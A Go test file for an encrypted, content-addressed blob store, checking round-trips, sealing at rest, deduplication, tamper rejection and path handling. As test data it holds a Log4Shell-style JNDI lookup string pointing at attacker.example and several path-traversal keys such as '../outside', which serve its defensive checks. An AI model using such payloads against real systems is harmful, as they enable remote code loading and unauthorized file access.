// SPDX-FileCopyrightText: The Fengsui Authors
// SPDX-License-Identifier: Apache-2.0

package blob_test

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"os"
	"path/filepath"
	"sync"
	"testing"

	"github.com/fengsui/fengsui/internal/blob"
	"github.com/fengsui/fengsui/internal/fault"
	"github.com/fengsui/fengsui/internal/seal"
)

func open(t *testing.T) blob.Store {
	t.Helper()
	keys, err := seal.Load(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	return blob.Store{Dir: filepath.Join(t.TempDir(), "blobs"), Seal: keys}
}

func put(t *testing.T, s blob.Store, b []byte) string {
	t.Helper()
	key, err := s.Put(b)
	if err != nil {
		t.Fatal(err)
	}
	return key
}

// files returns what is stored, by path.
func files(t *testing.T, s blob.Store) map[string][]byte {
	t.Helper()
	out := map[string][]byte{}
	err := filepath.WalkDir(s.Dir, func(path string, d os.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		out[path], err = os.ReadFile(path)
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	return out
}

func TestWhatIsPutComesBack(t *testing.T) {
	s := open(t)
	for _, b := range [][]byte{{}, []byte("exploit"), bytes.Repeat([]byte("A"), 3<<20), {0, 0xff, '\n'}} {
		key := put(t, s, b)
		if sum := sha256.Sum256(b); key != hex.EncodeToString(sum[:]) {
			t.Errorf("key %s is not the digest", key)
		}
		if got, err := s.Get(key); err != nil || !bytes.Equal(got, b) {
			t.Errorf("%d bytes came back as %d: %v", len(b), len(got), err)
		}
	}
}

func TestContentIsSealedAtRest(t *testing.T) {
	s := open(t)
	secret := []byte("undisclosed: ${jndi:ldap://attacker.example/a}")
	put(t, s, secret)
	for path, b := range files(t, s) {
		if bytes.Contains(b, secret[:12]) {
			t.Errorf("%s holds the content in clear", path)
		}
		info, err := os.Stat(path)
		if err != nil || info.Mode().Perm() != 0o600 {
			t.Errorf("%s: %v %v", path, info.Mode(), err)
		}
	}
}

func TestTheSameContentIsStoredOnce(t *testing.T) {
	s := open(t)
	var all sync.WaitGroup
	for range 20 {
		all.Go(func() {
			if _, err := s.Put([]byte("the same")); err != nil {
				t.Error(err)
			}
		})
	}
	all.Wait()
	if got := files(t, s); len(got) != 1 {
		t.Errorf("%d files are stored", len(got))
	}
}

func TestWhatIsNotThereIsMissing(t *testing.T) {
	s := open(t)
	key := put(t, s, []byte("x"))
	outside := filepath.Join(filepath.Dir(s.Dir), "outside")
	if err := os.WriteFile(outside, []byte("x"), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, k := range []string{"", "x", "../outside", key[:2] + "/../../outside", outside, key + "/", key[1:], "\x00", key[:63] + "Z",
		"0000000000000000000000000000000000000000000000000000000000000000"} {
		if b, err := s.Get(k); !fault.Is(err, fault.NotFound) {
			t.Errorf("Get(%q) gave %q, %v", k, b, err)
		}
	}
}

func TestWhatWasChangedIsRefused(t *testing.T) {
	s := open(t)
	one, two := put(t, s, []byte("one")), put(t, s, []byte("two"))
	path := func(key string) string { return filepath.Join(s.Dir, key[:2], key) }
	sealed, err := os.ReadFile(path(one))
	if err != nil {
		t.Fatal(err)
	}
	for name, b := range map[string][]byte{"cut off": sealed[:len(sealed)-1], "empty": {}, "a bit": flipped(sealed), "longer": append(bytes.Clone(sealed), 0)} {
		if err := os.WriteFile(path(one), b, 0o600); err != nil {
			t.Fatal(err)
		}
		if got, err := s.Get(one); err == nil {
			t.Errorf("%s: got %q", name, got)
		}
	}
	// A file under another's name is not that other's content.
	if err := os.WriteFile(path(two), sealed, 0o600); err != nil {
		t.Fatal(err)
	}
	if got, err := s.Get(two); err == nil {
		t.Errorf("got %q", got)
	}
}

func flipped(b []byte) []byte {
	b = bytes.Clone(b)
	b[len(b)/2] ^= 1
	return b
}

func TestPutLeavesNothingHalfWritten(t *testing.T) {
	s := open(t)
	if err := os.WriteFile(s.Dir, nil, 0o600); err != nil { // a file where the directory should be
		t.Fatal(err)
	}
	if _, err := s.Put([]byte("x")); err == nil {
		t.Error("stored nowhere")
	}
	if err := os.Remove(s.Dir); err != nil {
		t.Fatal(err)
	}
	put(t, s, []byte("x"))
	for path := range files(t, s) {
		if filepath.Base(path)[0] == '.' {
			t.Errorf("%s is left", path)
		}
	}
}
